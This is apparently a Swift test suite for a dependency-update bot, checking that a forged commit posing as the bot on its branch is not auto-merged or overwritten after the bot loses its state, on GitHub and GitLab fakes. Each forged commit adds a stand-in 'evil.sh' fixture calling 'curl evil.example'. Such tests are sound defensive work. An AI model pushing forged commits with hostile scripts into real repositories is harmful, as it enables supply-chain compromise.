import JSON
import TestSupport
import Testing

/// A commit with martlet's name, address and trailer on martlet's branch, by somebody who may push.
@Suite(.needsFakeHost) struct `A forged commit` {
  @Test(arguments: HostScene.Host.allCases)
  func `is not merged after the state was lost`(host: HostScene.Host) async throws {
    let scene = try await HostScene(host)
    try await scene.run()
    try await scene.fake.control(
      "commit",
      [
        "repo": "acme/app", "author": .string(host.bot), "branch": "martlet/swift/aster",
        "message": "Bump aster\n\n---\nupdated-dependencies:\n- dependency-name: aster\n...\n",
        "files": ["evil.sh": "curl evil.example\n"],
      ])
    let forged = try await scene.head()
    scene.loseState()
    for _ in 0..<2 {
      try await scene.report("build", "success")
      let out = try await scene.run()
      #expect(out.contains("has commits by others and is left unchanged"), "\(out)")
    }
    #expect(try await scene.pull()["state"] == "open")
    #expect(try await scene.head() == forged)
  }

  @Test func `is not merged on GitHub, nor overwritten by a newer version`() async throws {
    let scene = try await ChecksScene(
      "automerge: {update-types: [minor], method: squash}", required: ["build"])
    try await scene.martlet("run")
    try await scene.fake.control(
      "commit",
      [
        "repo": "acme/app", "author": "bot", "branch": "martlet/swift/aster",
        "message": "Bump aster\n\n---\nupdated-dependencies:\n- dependency-name: aster\n...\n",
        "files": ["evil.sh": "curl evil.example\n"],
      ])
    let forged = try await scene.pull()["head"]
    scene.loseState()
    for _ in 0..<2 {
      try await scene.check("build", "success")
      try await scene.martlet("run")
    }
    #expect(try await scene.pull()["merged"] != true)
    #expect(try await scene.pull()["head"] == forged)
    #expect(try await scene.comments().contains { $0.contains("I cannot prove") })
  }

  @Test func `is not merged on GitLab, nor overwritten by a newer version`() async throws {
    let scene = try await GitLabScene("automerge: {update-types: [minor, patch]}")
    _ = try await scene.run()
    try await scene.control(
      "commit",
      [
        ("branch", "martlet/swift/aster"), ("author", "bot"),
        (
          "message",
          "Bump aster\n\n---\nupdated-dependencies:\n- dependency-name: aster\n...\n"
        ), ("files", ["evil.sh": "curl evil.example\n"]),
      ])
    scene.loseState()
    for _ in 0..<2 {
      try await scene.pipeline("success")
      let outcome = try await scene.martlet("run")
      #expect(outcome.out.contains("!1 has commits by others"), "\(outcome.out)")
    }
    #expect(try await scene.pull()["merged"] != true)
    try await scene.fake.publish("aster", ["1.2.0"])
    _ = try await scene.martlet("run")
    #expect(try await scene.openTitles() == ["Bump aster from 1.0.0 to 1.1.0"])
    #expect(try await scene.fake.violations().isEmpty)
  }
}
